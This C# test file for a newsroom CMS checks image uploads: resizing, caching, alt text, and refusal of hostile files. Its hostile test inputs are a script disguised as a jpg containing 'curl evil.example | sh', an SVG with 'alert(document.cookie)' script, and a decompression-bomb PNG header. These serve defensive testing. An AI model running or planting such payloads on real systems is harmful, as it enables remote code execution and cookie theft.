using System.Net;
using System.Net.Http.Headers;
using System.Text;
using Broadsheet.Accounts;
using Broadsheet.Media;
using Broadsheet.Tests.Admin;
using Microsoft.EntityFrameworkCore;
using SkiaSharp;

namespace Broadsheet.Tests.Media;

// Uploading images: real ones are stored at a few widths and served for a year; hostile ones
// (made here, byte by byte) are refused with a message that says why.
public class MediaUploadTests : IClassFixture<MediaUploadTests.Newsroom>
{
    private static CancellationToken Cancel => TestContext.Current.CancellationToken;

    private readonly Newsroom _newsroom;

    public MediaUploadTests(Newsroom newsroom) => _newsroom = newsroom;

    public sealed class Newsroom : IAsyncLifetime
    {
        public BroadsheetApp App { get; } = new();
        public HttpClient Editor { get; private set; } = null!;

        public async ValueTask InitializeAsync() => Editor = await App.SignedInAsync(Roles.Editor);

        public ValueTask DisposeAsync()
        {
            App.Dispose();
            return ValueTask.CompletedTask;
        }
    }

    public static byte[] Picture(int width, int height, SKEncodedImageFormat format)
    {
        using var bitmap = new SKBitmap(width, height);
        using (var canvas = new SKCanvas(bitmap))
        {
            canvas.Clear(SKColors.SteelBlue);
            using var paint = new SKPaint { Color = SKColors.Orange };
            canvas.DrawCircle(width / 2f, height / 2f, Math.Min(width, height) / 3f, paint);
            var random = new Random(7);
            for (var i = 0; i < 2000; i++)
            {
                paint.Color = new SKColor((byte)random.Next(256), (byte)random.Next(256), (byte)random.Next(256));
                canvas.DrawRect(random.Next(width), random.Next(height), 6, 6, paint);
            }
        }
        using var image = SKImage.FromBitmap(bitmap);
        return image.Encode(format, 90).ToArray();
    }

    // A PNG signature and an IHDR chunk claiming 30,000 × 30,000 pixels, and nothing else.
    private static byte[] HugePngHeader()
    {
        var bytes = new List<byte> { 0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A, 0, 0, 0, 13 };
        bytes.AddRange("IHDR"u8.ToArray());
        bytes.AddRange([0, 0, 0x75, 0x30, 0, 0, 0x75, 0x30, 8, 6, 0, 0, 0, 0, 0, 0, 0]);
        bytes.AddRange([0, 0, 0, 0, .. "IEND"u8.ToArray(), 0xAE, 0x42, 0x60, 0x82]);
        return [.. bytes];
    }

    private async Task<HttpResponseMessage> UploadAsync(byte[] content, string fileName, string contentType)
    {
        var page = await _newsroom.Editor.GetPageAsync("/admin/media/");
        var token = page.QuerySelector("form#upload input[name=__RequestVerificationToken]")!.GetAttribute("value")!;
        using var form = new MultipartFormDataContent();
        form.Add(new StringContent(token), "__RequestVerificationToken");
        var file = new ByteArrayContent(content);
        file.Headers.ContentType = new MediaTypeHeaderValue(contentType);
        form.Add(file, "file", fileName);
        return await _newsroom.Editor.PostAsync(new Uri("/admin/media/", UriKind.Relative), form, Cancel);
    }

    private static async Task AssertRefusedAsync(HttpResponseMessage response, string message)
    {
        Assert.Equal(HttpStatusCode.UnprocessableEntity, response.StatusCode);
        var page = await Reader.ParseAsync(response);
        Assert.Equal(message, page.QuerySelector("#message")!.TextContent);
    }

    [Fact]
    public async Task A_photo_is_stored_at_several_widths_and_served_as_immutable()
    {
        var uploaded = await UploadAsync(Picture(1200, 800, SKEncodedImageFormat.Jpeg), "harbour.jpg", "image/jpeg");
        var id = int.Parse((await Reader.ParseAsync(uploaded)).QuerySelector("#added-id")!.TextContent, System.Globalization.CultureInfo.InvariantCulture);
        var item = await _newsroom.App.WithDbAsync(db => db.Set<MediaItem>().SingleAsync(m => m.Id == id, Cancel));
        var served = await _newsroom.App.CreateReader().GetAsync(new Uri(item.Url(480), UriKind.Relative), Cancel);
        var bytes = await served.Content.ReadAsByteArrayAsync(Cancel);
        using var small = SKBitmap.Decode(bytes);

        Assert.Equal(HttpStatusCode.OK, uploaded.StatusCode);
        Assert.Equal("480,960,1200", item.Widths);
        Assert.Equal((1200, 800), (item.Width, item.Height));
        Assert.Equal(HttpStatusCode.OK, served.StatusCode);
        Assert.Equal("image/jpeg", served.Content.Headers.ContentType!.MediaType);
        Assert.Equal("public, max-age=31536000, immutable", served.Headers.CacheControl!.ToString());
        Assert.Equal((480, 320), (small.Width, small.Height));
    }

    [Fact]
    public async Task A_script_renamed_jpg_is_refused_because_of_its_content()
    {
        var response = await UploadAsync(Encoding.UTF8.GetBytes("#!/bin/sh\ncurl evil.example | sh\n"), "holiday.jpg", "image/jpeg");

        await AssertRefusedAsync(response, ImageUpload.NotAnImage);
    }

    [Fact]
    public async Task A_30000_by_30000_pixel_image_is_refused_from_its_header()
    {
        var response = await UploadAsync(HugePngHeader(), "bomb.png", "image/png");

        await AssertRefusedAsync(response, ImageUpload.TooManyPixels);
    }

    [Fact]
    public async Task An_svg_with_script_is_refused()
    {
        var svg = """<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.cookie)</script></svg>""";

        var response = await UploadAsync(Encoding.UTF8.GetBytes(svg), "logo.png", "image/png");

        await AssertRefusedAsync(response, ImageUpload.SvgRefused);
    }

    [Fact]
    public async Task A_truncated_jpeg_is_refused_as_damaged()
    {
        var whole = Picture(800, 600, SKEncodedImageFormat.Jpeg);

        var response = await UploadAsync(whole[..(whole.Length / 2)], "cut.jpg", "image/jpeg");

        await AssertRefusedAsync(response, ImageUpload.Damaged);
    }

    [Fact]
    public async Task A_file_over_10_mb_is_refused()
    {
        var big = new byte[ImageUpload.MaxBytes + 1];
        Picture(10, 10, SKEncodedImageFormat.Png).CopyTo(big, 0);

        var response = await UploadAsync(big, "big.png", "image/png");

        await AssertRefusedAsync(response, ImageUpload.TooLarge);
    }

    [Fact]
    public async Task A_featured_image_needs_alt_text_and_is_shown_with_srcset()
    {
        var uploaded = await UploadAsync(Picture(1000, 500, SKEncodedImageFormat.Png), "pier.png", "image/png");
        var id = (await Reader.ParseAsync(uploaded)).QuerySelector("#added-id")!.TextContent;
        var fields = Desk.Article("Pier reopens");
        fields["Form.FeaturedMediaId"] = id;

        var withoutAlt = await _newsroom.Editor.SaveAsync("/admin/articles/new/", "publish", fields);
        fields["Form.FeaturedImageAlt"] = "The pier at low tide";
        var article = Desk.ArticleId(await _newsroom.Editor.SaveAsync("/admin/articles/new/", "publish", fields));
        var page = await _newsroom.App.CreateReader().GetPageAsync((await _newsroom.Editor.PermalinkAsync(article))!);
        var image = page.QuerySelector(".featured-image img")!;

        Assert.Equal(HttpStatusCode.UnprocessableEntity, withoutAlt.StatusCode);
        Assert.Equal("The pier at low tide", image.GetAttribute("alt"));
        Assert.Matches(@"^/media/[0-9a-f]{32}-480\.png 480w, /media/[0-9a-f]{32}-960\.png 960w, /media/[0-9a-f]{32}-1000\.png 1000w$", image.GetAttribute("srcset")!);
    }

    [Fact]
    public async Task The_featured_image_is_picked_from_recent_uploads_not_typed_as_a_number()
    {
        var uploaded = await UploadAsync(Picture(800, 600, SKEncodedImageFormat.Png), "lighthouse.png", "image/png");
        var id = (await Reader.ParseAsync(uploaded)).QuerySelector("#added-id")!.TextContent;
        var editor = await _newsroom.Editor.GetPageAsync("/admin/articles/new/");
        var choice = editor.QuerySelector($"#featured-picker input[type=radio][name='Form.FeaturedMediaId'][value='{id}']");

        Assert.NotNull(choice);
        Assert.Matches(@"^/media/[0-9a-f]{32}-480\.png$", choice.ParentElement!.QuerySelector("img")!.GetAttribute("src")!);
        Assert.Contains("lighthouse.png", choice.ParentElement!.TextContent, StringComparison.Ordinal);
        Assert.Empty(editor.QuerySelectorAll("input[name='Form.FeaturedMediaId']:not([type=radio])"));
        Assert.NotNull(editor.QuerySelector("#featured-media-none[checked]"));

        var fields = Desk.Article("Lighthouse relit");
        fields["Form.FeaturedMediaId"] = id;
        fields["Form.FeaturedImageAlt"] = "The lighthouse at dusk";
        var article = Desk.ArticleId(await _newsroom.Editor.SaveAsync("/admin/articles/new/", "save", fields));
        var reopened = await _newsroom.Editor.EditorAsync(article);
        fields["Form.FeaturedMediaId"] = "999999";
        var unknown = await _newsroom.Editor.SaveAsync("/admin/articles/new/", "save", fields);

        Assert.NotNull(reopened.QuerySelector($"#featured-media-{id}[checked]"));
        Assert.Equal("The lighthouse at dusk", reopened.QuerySelector("#featuredImageAlt")!.GetAttribute("value"));
        Assert.Equal(HttpStatusCode.UnprocessableEntity, unknown.StatusCode);
        Assert.Contains("Please choose the featured image from the images in Media.", (await Reader.ParseAsync(unknown)).Body!.TextContent, StringComparison.Ordinal);
    }
}
